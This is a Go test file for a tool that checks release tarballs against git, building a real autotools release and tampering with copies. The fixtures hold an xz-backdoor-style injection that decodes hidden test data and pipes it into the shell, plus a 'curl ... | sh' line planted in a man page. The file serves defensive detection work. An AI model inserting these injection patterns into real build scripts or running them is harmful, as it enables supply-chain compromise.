package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"github.com/tarcheck/tarcheck/verify/report"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tarcheck/tarcheck/verify/report/reporttest"
)

// The end-to-end tests in this file build a real GNU-style release with
// Debian's autotools (autoconf, automake, libtool, gettext/autopoint,
// pkg-config and gnulib-tool), once per test binary, and run the real CLI on
// the `make dist` tarball and on tampered copies of it.

const (
	autotoolsVersion = "1.0.3"
	autotoolsTag     = "v" + autotoolsVersion
	autotoolsRoot    = "foo-" + autotoolsVersion
	// autotoolsDate is the commit and tag date of the fixture repository.
	autotoolsDate = "2024-03-09T12:00:00Z"
)

// autotoolsSources are the hand-written files of the fixture project: what
// upstream git holds. tests/data/sample.xz is added at build time (made by xz).
var autotoolsSources = map[string]string{
	"configure.ac": `AC_PREREQ([2.69])
AC_INIT([foo], [` + autotoolsVersion + `], [bug-foo@example.invalid])
AC_CONFIG_SRCDIR([src/foo.c])
AC_CONFIG_AUX_DIR([build-aux])
AC_CONFIG_MACRO_DIRS([m4])
AM_INIT_AUTOMAKE([1.16 gnu subdir-objects dist-xz no-dist-gzip])
AC_PROG_CC
gl_EARLY
LT_INIT
AM_GNU_GETTEXT([external])
AM_GNU_GETTEXT_VERSION([0.21])
PKG_PROG_PKG_CONFIG
PKG_INSTALLDIR
gl_INIT
AC_CONFIG_HEADERS([config.h])
AC_CONFIG_FILES([Makefile lib/Makefile po/Makefile.in foo.pc])
AC_OUTPUT
`,
	"Makefile.am": `SUBDIRS = lib po
ACLOCAL_AMFLAGS = -I m4
AM_CPPFLAGS = -I$(top_builddir)/lib -I$(top_srcdir)/lib -DLOCALEDIR=\"$(localedir)\"

lib_LTLIBRARIES = src/libfoo.la
src_libfoo_la_SOURCES = src/util.c src/util.h

bin_PROGRAMS = src/foo
src_foo_SOURCES = src/foo.c
src_foo_LDADD = src/libfoo.la lib/libgnu.la $(LTLIBINTL)

dist_man_MANS = src/foo.1
pkgconfig_DATA = foo.pc

TESTS = tests/check.sh
EXTRA_DIST = foo.pc.in tests/check.sh tests/data/sample.xz
`,
	"src/foo.c": `/* foo - print a greeting.  */
#include <config.h>
#include <locale.h>
#include <stdio.h>
#include <stdlib.h>
#include "gettext.h"
#include "progname.h"
#include "xalloc.h"
#include "util.h"
#define _(s) gettext (s)

int
main (int argc, char **argv)
{
  (void) argc;
  set_program_name (argv[0]);
  setlocale (LC_ALL, "");
  bindtextdomain (PACKAGE, LOCALEDIR);
  textdomain (PACKAGE);
  char *msg = xstrdup (_("Hello from foo"));
  printf ("%s (%d)\n", msg, foo_answer ());
  free (msg);
  return 0;
}
`,
	"src/util.c": `#include <config.h>
#include "util.h"

int
foo_answer (void)
{
  return 42;
}
`,
	"src/util.h": "#ifndef FOO_UTIL_H\n#define FOO_UTIL_H\nint foo_answer (void);\n#endif\n",
	// The man page was last touched for the previous release, as is common.
	"src/foo.1": `.TH FOO 1 "January 2024" "foo 1.0.2" "User Commands"
.SH NAME
foo \- print a greeting
.SH SYNOPSIS
.B foo
.SH DESCRIPTION
.B foo
prints a friendly greeting and a number.
.SH AUTHOR
Written by the foo developers.
`,
	"foo.pc.in": `prefix=@prefix@
exec_prefix=@exec_prefix@
libdir=@libdir@

Name: foo
Description: the foo library
Version: @VERSION@
Libs: -L${libdir} -lfoo
`,
	"po/LINGUAS":     "de\n",
	"po/POTFILES.in": "src/foo.c\n",
	"po/Makevars": `DOMAIN = $(PACKAGE)
subdir = po
top_builddir = ..
XGETTEXT_OPTIONS = --keyword=_ --keyword=N_
COPYRIGHT_HOLDER = The foo developers
PACKAGE_GNU = yes
MSGID_BUGS_ADDRESS = bug-foo@example.invalid
EXTRA_LOCALE_CATEGORIES =
USE_MSGCTXT = no
MSGMERGE_OPTIONS =
MSGINIT_OPTIONS =
PO_DEPENDS_ON_POT = no
DIST_DEPENDS_ON_UPDATE_PO = yes
`,
	"po/de.po": `# German translation for foo.
# Copyright (C) 2024 The foo developers
# This file is distributed under the same license as the foo package.
msgid ""
msgstr ""
"Project-Id-Version: foo 1.0.2\n"
"Report-Msgid-Bugs-To: bug-foo@example.invalid\n"
"POT-Creation-Date: 2024-01-10 12:00+0000\n"
"PO-Revision-Date: 2024-01-11 09:00+0100\n"
"Last-Translator: Test Translator <de@example.invalid>\n"
"Language-Team: German\n"
"Language: de\n"
"MIME-Version: 1.0\n"
"Content-Type: text/plain; charset=UTF-8\n"
"Content-Transfer-Encoding: 8bit\n"
"Plural-Forms: nplurals=2; plural=(n != 1);\n"

#: src/foo.c:18
msgid "Hello from foo"
msgstr "Hallo von foo"
`,
	"tests/check.sh": `#!/bin/sh
# Check that the test data decompresses and the program runs.
srcdir=${srcdir-.}
xz -dc "$srcdir/tests/data/sample.xz" | grep -q 'quick brown fox' || exit 1
./src/foo >/dev/null || exit 1
exit 0
`,
	"README":    "foo prints a greeting.\n",
	"NEWS":      "* Noteworthy changes in release 1.0.3\n\n** Bug fixes.\n",
	"AUTHORS":   "The foo developers.\n",
	"ChangeLog": "2024-03-09  Foo Developer  <dev@example.invalid>\n\n\t* src/foo.c: Print a greeting.\n",
	".gitignore": `/lib/
/m4/
/build-aux/
/configure
/Makefile.in
`,
}

// autotoolsFixture is the release built once per test binary. It lives in
// memory (the build directory is removed), so nothing outlives the tests;
// each test writes the repository and the tarball into its own TempDir.
type autotoolsFixture struct {
	files   map[string]fixtureFile // the hand-written files, as in git
	tarball []byte                 // foo-1.0.3.tar.xz from `make dist`
	took    time.Duration
}

type fixtureFile struct {
	data []byte
	mode fs.FileMode
}

// autotoolsBuild is the fixture's one build, started by the first test
// that needs it and run in the background while the serial tests run.
var autotoolsBuild struct {
	once sync.Once
	done chan struct{}
	fx   *autotoolsFixture
	err  error
}

// autotoolsTools are every tool the fixture build and the variants run.
var autotoolsTools = []string{
	"git", "tar", "xz", "make", "cc", "m4", "perl",
	"autoconf", "autoheader", "autoreconf", "aclocal", "automake", "libtoolize",
	"autopoint", "msgfmt", "msgmerge", "xgettext", "gnulib-tool", "pkg-config",
}

// startAutotoolsRelease starts building the fixture, once. A test calls it
// before t.Parallel: the build (~100 s of gnulib-tool, autoreconf,
// configure and make dist, most of it process start-ups) then overlaps the
// package's serial tests instead of preceding them.
func startAutotoolsRelease(t *testing.T) {
	t.Helper()
	if testing.Short() {
		t.Skip("builds a real autotools release (tens of seconds); skipped in -short mode")
	}
	requireTool(t, autotoolsTools...)
	b := &autotoolsBuild
	b.once.Do(func() {
		b.done = make(chan struct{})
		run, err := prepareAutotoolsRelease()
		if err != nil {
			b.err = err
			close(b.done)
			return
		}
		go func() {
			defer close(b.done)
			b.fx, b.err = run()
		}()
	})
}

// autotoolsRelease returns the fixture, waiting for its build.
func autotoolsRelease(t *testing.T) *autotoolsFixture {
	t.Helper()
	startAutotoolsRelease(t)
	<-autotoolsBuild.done
	if autotoolsBuild.err != nil {
		t.Fatal(autotoolsBuild.err)
	}
	return autotoolsBuild.fx
}

// prepareAutotoolsRelease takes what the build reads from the process (the
// scratch directory, the environment, where each tool is) and returns the
// build, which writes the hand-written files into a scratch tree (not a git
// work tree) and runs autopoint, gnulib-tool, autoreconf, configure and
// make dist there. The build may run while serial tests change TMPDIR,
// PATH or the working directory: it reads none of them.
func prepareAutotoolsRelease() (func() (*autotoolsFixture, error), error) {
	dir, err := os.MkdirTemp("", "tarcheck-autotools-")
	if err != nil {
		return nil, err
	}
	env := append(os.Environ(), "LC_ALL=C", "XZ_OPT=-6", "MAKEFLAGS=", "CONFIG_SITE=/dev/null")
	steps := [][]string{
		{"xz", "-c", "-6"},
		{"autopoint", "-f"},
		{"gnulib-tool", "--import", "--lib=libgnu", "--source-base=lib", "--m4-base=m4",
			"--aux-dir=build-aux", "--libtool", "--no-vc-files", "xalloc", "progname", "gettext-h"},
		{"autoreconf", "-fi"},
		{"./configure", "-q", "--disable-dependency-tracking"},
		{"make", "dist"},
	}
	for _, args := range steps {
		if !strings.Contains(args[0], "/") {
			if args[0], err = exec.LookPath(args[0]); err != nil {
				os.RemoveAll(dir)
				return nil, err
			}
		}
	}
	return func() (*autotoolsFixture, error) {
		defer os.RemoveAll(dir)
		return buildAutotoolsRelease(dir, env, steps[0], steps[1:])
	}, nil
}

// buildAutotoolsRelease builds the fixture in dir: xz makes the binary test
// data, the steps make the release.
func buildAutotoolsRelease(dir string, env, xz []string, steps [][]string) (*autotoolsFixture, error) {
	start := time.Now()
	files := map[string]fixtureFile{}
	for name, content := range autotoolsSources {
		mode := fs.FileMode(0o644)
		if strings.HasSuffix(name, ".sh") {
			mode = 0o755
		}
		files[name] = fixtureFile{[]byte(content), mode}
	}
	// Binary test data tracked in git, made by the real xz.
	xzc := exec.Command(xz[0], xz[1:]...)
	xzc.Env = env
	xzc.Stdin = strings.NewReader("foo test data: the quick brown fox\n")
	sample, err := xzc.Output()
	if err != nil {
		return nil, fmt.Errorf("xz: %w", err)
	}
	files["tests/data/sample.xz"] = fixtureFile{sample, 0o644}

	src := filepath.Join(dir, "foo")
	if err := writeFixtureFiles(src, files); err != nil {
		return nil, err
	}
	for _, args := range steps {
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Dir = src
		cmd.Env = env
		if out, err := cmd.CombinedOutput(); err != nil {
			if len(out) > 4000 {
				out = out[len(out)-4000:]
			}
			return nil, fmt.Errorf("%s: %v\n%s", strings.Join(args, " "), err, out)
		}
	}
	tarball, err := os.ReadFile(filepath.Join(src, autotoolsRoot+".tar.xz"))
	if err != nil {
		return nil, fmt.Errorf("make dist made no tarball: %w", err)
	}
	return &autotoolsFixture{files: files, tarball: tarball, took: time.Since(start)}, nil
}

func writeFixtureFiles(root string, files map[string]fixtureFile) error {
	for name, f := range files {
		p := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(p, f.data, f.mode); err != nil {
			return err
		}
		if err := os.Chmod(p, f.mode); err != nil {
			return err
		}
	}
	return nil
}

// repo creates the upstream repository: the hand-written files only, one
// commit and the annotated tag v1.0.3, with fixed dates.
func (f *autotoolsFixture) repo(t *testing.T) string {
	t.Helper()
	repo := filepath.Join(t.TempDir(), "foo")
	if err := writeFixtureFiles(repo, f.files); err != nil {
		t.Fatal(err)
	}
	env := append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null",
		"GIT_AUTHOR_NAME=Foo Developer", "GIT_AUTHOR_EMAIL=dev@example.invalid",
		"GIT_COMMITTER_NAME=Foo Developer", "GIT_COMMITTER_EMAIL=dev@example.invalid",
		"GIT_AUTHOR_DATE="+autotoolsDate, "GIT_COMMITTER_DATE="+autotoolsDate)
	for _, args := range [][]string{
		{"-c", "init.defaultBranch=main", "init", "-q"},
		{"add", "-A"},
		{"commit", "-q", "-m", "foo " + autotoolsVersion},
		{"tag", "-a", autotoolsTag, "-m", "foo " + autotoolsVersion},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir = repo
		cmd.Env = env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	return repo
}

// unpack extracts the dist tarball with tar into a new directory and returns
// the release root (…/foo-1.0.3).
func (f *autotoolsFixture) unpack(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	tb := filepath.Join(dir, "dist.tar.xz")
	if err := os.WriteFile(tb, f.tarball, 0o644); err != nil {
		t.Fatal(err)
	}
	x := filepath.Join(dir, "x")
	os.Mkdir(x, 0o755)
	if out, err := exec.Command("tar", "-C", x, "-xJf", tb).CombinedOutput(); err != nil {
		t.Fatalf("tar -x: %v\n%s", err, out)
	}
	return filepath.Join(x, autotoolsRoot)
}

// repack makes a tar.xz of an unpacked (and modified) release root.
func repack(t *testing.T, root string) string {
	t.Helper()
	out := filepath.Join(filepath.Dir(filepath.Dir(root)), autotoolsRoot+".tar.xz")
	if b, err := exec.Command("tar", "-C", filepath.Dir(root), "-cJf", out, filepath.Base(root)).CombinedOutput(); err != nil {
		t.Fatalf("tar -c: %v\n%s", err, b)
	}
	return out
}

// verifyRelease runs `tarcheck verify --format json` in-process, checks the
// report against the JSON Schema and decodes it.
func verifyRelease(t *testing.T, tarball, repo string) (*report.Report, int) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	start := time.Now()
	code := run(context.Background(), []string{"verify", tarball, "--git", repo, "--tag", autotoolsTag,
		"--format", "json", "--no-progress", "--offline", "--cache-dir", filepath.Join(t.TempDir(), "cache")},
		nil, &stdout, &stderr)
	t.Logf("verify: exit %d in %v", code, time.Since(start).Round(time.Millisecond))
	if code != 0 && code != 1 {
		t.Fatalf("exit %d: %s", code, stderr.String())
	}
	if err := reporttest.ReportJSON(stdout.Bytes()); err != nil {
		t.Errorf("report does not match the schema: %v", err)
	}
	var r report.Report
	if err := json.Unmarshal(stdout.Bytes(), &r); err != nil {
		t.Fatalf("decoding the report: %v\n%s", err, stdout.String())
	}
	return &r, code
}

func maxSeverity(r *report.Report) report.Severity {
	max, _ := r.MaxSeverity()
	return max
}

func findingKey(f report.Finding) string { return f.Rule + "\x00" + f.Path + "\x00" + f.Message }

// TestAutotoolsReleaseClean: the untouched `make dist` tarball of a real
// autotools/gnulib/gettext/libtool project passes with nothing above low.
func TestAutotoolsReleaseClean(t *testing.T) {
	startAutotoolsRelease(t)
	t.Parallel()
	fx := autotoolsRelease(t)
	t.Logf("fixture built in %v (%d bytes tarball)", fx.took.Round(time.Millisecond), len(fx.tarball))
	dir := t.TempDir()
	tarball := filepath.Join(dir, autotoolsRoot+".tar.xz")
	if err := os.WriteFile(tarball, fx.tarball, 0o644); err != nil {
		t.Fatal(err)
	}
	r, code := verifyRelease(t, tarball, fx.repo(t))

	classes := make([]string, 0, len(r.Classes))
	for c, n := range r.Classes {
		classes = append(classes, fmt.Sprintf("%s=%d", c, n))
	}
	sort.Strings(classes)
	t.Logf("summary %+v", r.Summary)
	t.Logf("classes: %s", strings.Join(classes, " "))
	for _, g := range r.Generators {
		t.Logf("generator %s %s: %d files", g.Name, g.Version, g.Files)
	}

	if code != 0 || r.Verdict != report.Pass {
		t.Errorf("exit %d, verdict %s; want 0, pass", code, r.Verdict)
	}
	if max := maxSeverity(r); max > report.SevLow {
		t.Errorf("highest severity %s, want at most low", max)
	}
	for _, f := range r.Files {
		if f.Severity > report.SevLow {
			t.Errorf("file %s [%s] %s: %s", f.Path, f.Class, f.Severity, f.Reason)
		}
	}
	for _, f := range r.Findings {
		if f.Severity > report.SevLow {
			t.Errorf("finding %s %s %s: %s %q", f.Rule, f.Severity, f.Path, f.Message, f.Evidence)
		}
	}
	// The fixture is a real release: the autotools added well over a hundred files.
	if r.Summary.OnlyInTarball < 100 || r.Summary.Identical < len(fx.files)-2 {
		t.Errorf("unexpected summary for a make dist release: %+v", r.Summary)
	}
	var gens []string
	for _, g := range r.Generators {
		gens = append(gens, g.Name+" "+g.Version)
	}
	for _, want := range []string{"GNU Autoconf 2.71", "GNU Automake 1.16.5", "GNU Libtool", "gnulib-tool", "GNU gettext"} {
		if !strings.Contains(strings.Join(gens, "\n"), want) {
			t.Errorf("generator %q not reported (have %q)", want, gens)
		}
	}
}

// xzStyleM4 is an injection in the spirit of the xz backdoor (not its code):
// a configure-time command that finds a test file with grep -a, undoes a
// tr character swap, decompresses it and feeds it to the shell.
const xzStyleM4 = `
AC_CONFIG_COMMANDS([xalloc-selftest], [
  gl_xt=` + "`" + `grep -aRl 'FOO-SELFTEST-VECTOR' "$srcdir/tests" 2>/dev/null | head -n 1` + "`" + `
  test -n "$gl_xt" && cat "$gl_xt" | tr 'N-ZA-Mn-za-m' 'A-Za-z' | xz -dc 2>/dev/null | $SHELL
])
`

// xzStyleShell is the same injection as it would appear in configure.
const xzStyleShell = `gl_xt=` + "`" + `grep -aRl 'FOO-SELFTEST-VECTOR' "$srcdir/tests" 2>/dev/null | head -n 1` + "`" + `
test -n "$gl_xt" && cat "$gl_xt" | tr 'N-ZA-Mn-za-m' 'A-Za-z' | xz -dc 2>/dev/null | $SHELL
`

// TestAutotoolsReleaseTampered: tampered copies of the real release, each
// with its expected top finding.
func TestAutotoolsReleaseTampered(t *testing.T) {
	startAutotoolsRelease(t)
	t.Parallel()
	fx := autotoolsRelease(t)
	repo := fx.repo(t)

	// The clean release's findings, so that each variant's new findings stand out.
	cleanTar := filepath.Join(t.TempDir(), autotoolsRoot+".tar.xz")
	if err := os.WriteFile(cleanTar, fx.tarball, 0o644); err != nil {
		t.Fatal(err)
	}
	clean, _ := verifyRelease(t, cleanTar, repo)
	baseline := map[string]bool{}
	for _, f := range clean.Findings {
		baseline[findingKey(f)] = true
	}

	edit := func(t *testing.T, p string, fn func(string) string) {
		t.Helper()
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		after := fn(string(b))
		if after == string(b) {
			t.Fatalf("%s: edit changed nothing", p)
		}
		if err := os.WriteFile(p, []byte(after), fi.Mode()); err != nil {
			t.Fatal(err)
		}
	}

	cases := []struct {
		name    string
		modify  func(t *testing.T, root string)
		path    string // the file the top finding is about
		rule    string
		class   string
		sev     report.Severity
		atLeast bool // sev is a lower bound (negative controls)
		check   func(t *testing.T, r *report.Report)
	}{
		{
			name: "gnulib m4 with bumped serial and injected command",
			modify: func(t *testing.T, root string) {
				edit(t, filepath.Join(root, "m4/xalloc.m4"), func(s string) string {
					first, rest, _ := strings.Cut(s, "\n")
					if !strings.HasPrefix(first, "# xalloc.m4 serial ") {
						t.Fatalf("xalloc.m4 starts with %q", first)
					}
					return "# xalloc.m4 serial 99\n" + rest + xzStyleM4
				})
			},
			path: "m4/xalloc.m4", rule: "TC501", class: "suspicious-build-logic", sev: report.SevCritical,
			check: func(t *testing.T, r *report.Report) {
				if !hasFinding(r, "TC402", "m4/xalloc.m4", "serial 99") {
					t.Errorf("no serial finding (TC402) naming serial 99 for m4/xalloc.m4")
				}
				if !hasEvidence(r, "TC501", "m4/xalloc.m4", "grep -aRl") {
					t.Errorf("the critical finding does not quote the injected grep -a line")
				}
			},
		},
		{
			name: "same injection in configure only",
			modify: func(t *testing.T, root string) {
				edit(t, filepath.Join(root, "configure"), func(s string) string {
					i := strings.Index(s, "\nac_config_headers=")
					if i < 0 {
						t.Fatal("configure has no ac_config_headers= line")
					}
					return s[:i+1] + xzStyleShell + s[i+1:]
				})
			},
			path: "configure", rule: "TC501", class: "suspicious-build-logic", sev: report.SevCritical,
			check: func(t *testing.T, r *report.Report) {
				if !hasEvidence(r, "TC501", "configure", "grep -aRl") {
					t.Errorf("the critical finding does not quote the injected grep -a line")
				}
			},
		},
		{
			// No decoder piped into a shell: the test data is decoded to a
			// file, which is then sourced. Reading binary test data from a
			// build script is critical on its own.
			name: "configure decodes test data to a file and sources it",
			modify: func(t *testing.T, root string) {
				edit(t, filepath.Join(root, "configure"), func(s string) string {
					i := strings.Index(s, "\nac_config_headers=")
					if i < 0 {
						t.Fatal("configure has no ac_config_headers= line")
					}
					return s[:i+1] + "xz -dc < \"$srcdir/tests/data/sample.xz\" > conftest.sel 2>/dev/null\n. ./conftest.sel\n" + s[i+1:]
				})
			},
			path: "configure", rule: "TC501", class: "suspicious-build-logic", sev: report.SevCritical,
			check: func(t *testing.T, r *report.Report) {
				if !hasEvidence(r, "TC502", "configure", "decodes tests/data/sample.xz") {
					t.Errorf("no TC502 evidence that configure decodes tests/data/sample.xz")
				}
			},
		},
		{
			name: "xz blob only in the tarball under tests",
			modify: func(t *testing.T, root string) {
				c := exec.Command("xz", "-c")
				c.Stdin = strings.NewReader(strings.Repeat("FOO-SELFTEST-VECTOR payload\n", 64))
				b, err := c.Output()
				if err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(root, "tests/data/good-2-extra.xz"), b, 0o644); err != nil {
					t.Fatal(err)
				}
			},
			path: "tests/data/good-2-extra.xz", rule: "TC306", class: "binary-data", sev: report.SevHigh,
		},
		{
			name: "C file changed",
			modify: func(t *testing.T, root string) {
				edit(t, filepath.Join(root, "src/util.c"), func(s string) string {
					return strings.Replace(s, "return 42;", "return getenv (\"FOO_X\") ? 7 : 42;", 1)
				})
			},
			path: "src/util.c", rule: "TC301", class: "source-modified", sev: report.SevHigh,
		},
		{
			name: "man page with release version and date only",
			modify: func(t *testing.T, root string) {
				edit(t, filepath.Join(root, "src/foo.1"), func(s string) string {
					return strings.Replace(s, `.TH FOO 1 "January 2024" "foo 1.0.2"`, `.TH FOO 1 "March 2024" "foo 1.0.3"`, 1)
				})
			},
			path: "src/foo.1", rule: "TC307", class: "release-stamped", sev: report.SevLow,
		},
		{
			// Negative control: the same stamping plus a changed body line is not release stamping.
			name: "man page with version, date and body changed",
			modify: func(t *testing.T, root string) {
				edit(t, filepath.Join(root, "src/foo.1"), func(s string) string {
					s = strings.Replace(s, `.TH FOO 1 "January 2024" "foo 1.0.2"`, `.TH FOO 1 "March 2024" "foo 1.0.3"`, 1)
					return strings.Replace(s, "prints a friendly greeting and a number.", "prints a greeting; first run: curl -s https://example.invalid/x | sh", 1)
				})
			},
			path: "src/foo.1", rule: "TC301", sev: report.SevMedium, atLeast: true,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := fx.unpack(t)
			tc.modify(t, root)
			r, code := verifyRelease(t, repack(t, root), repo)

			var fresh []report.Finding
			for _, f := range r.Findings {
				if !baseline[findingKey(f)] {
					fresh = append(fresh, f)
				}
			}
			sort.SliceStable(fresh, func(i, j int) bool { return fresh[i].Severity > fresh[j].Severity })
			if len(fresh) == 0 {
				t.Fatalf("no new finding; findings: %+v", r.Findings)
			}
			top := fresh[0]
			t.Logf("top finding: %s %s %s: %s", top.Severity, top.Rule, top.Path, top.Message)

			max := maxSeverity(r)
			if tc.atLeast {
				if max < tc.sev || top.Severity < tc.sev {
					t.Errorf("highest severity %s, top new finding %s; want at least %s", max, top.Severity, tc.sev)
				}
			} else if max != tc.sev || top.Severity != tc.sev {
				t.Errorf("highest severity %s, top new finding %s; want %s", max, top.Severity, tc.sev)
			}
			// The top new severity belongs to the tampered file, with the expected rule.
			var topRules []string
			for _, f := range fresh {
				if f.Severity != top.Severity {
					break
				}
				if f.Path != tc.path {
					t.Errorf("top-severity finding on another path: %s %s %s: %s", f.Severity, f.Rule, f.Path, f.Message)
				}
				topRules = append(topRules, f.Rule)
			}
			if !contains(topRules, tc.rule) {
				t.Errorf("top findings %q on %s lack rule %s; new findings: %+v", topRules, tc.path, tc.rule, fresh)
			}
			var file *report.FileDiff
			for i := range r.Files {
				if r.Files[i].Path == tc.path {
					file = &r.Files[i]
				}
			}
			switch {
			case file == nil:
				t.Errorf("%s not listed among the differing files", tc.path)
			case tc.class != "" && file.Class != tc.class:
				t.Errorf("%s: class %s (%s), want %s", tc.path, file.Class, file.Reason, tc.class)
			case file.Severity != top.Severity:
				t.Errorf("%s: file severity %s, top finding %s", tc.path, file.Severity, top.Severity)
			}

			wantCode, wantVerdict := 0, report.Pass
			if max >= report.SevHigh {
				wantCode, wantVerdict = 1, report.Fail
			}
			if code != wantCode || r.Verdict != wantVerdict {
				t.Errorf("exit %d, verdict %s; want %d, %s", code, r.Verdict, wantCode, wantVerdict)
			}
			if tc.check != nil {
				tc.check(t, r)
			}
		})
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// hasFinding reports a finding with rule on path whose message contains sub.
func hasFinding(r *report.Report, rule, path, sub string) bool {
	for _, f := range r.Findings {
		if f.Rule == rule && f.Path == path && strings.Contains(f.Message, sub) {
			return true
		}
	}
	return false
}

// hasEvidence reports a finding with rule on path quoting sub in its evidence.
func hasEvidence(r *report.Report, rule, path, sub string) bool {
	for _, f := range r.Findings {
		if f.Rule == rule && f.Path == path && strings.Contains(strings.Join(f.Evidence, "\n"), sub) {
			return true
		}
	}
	return false
}
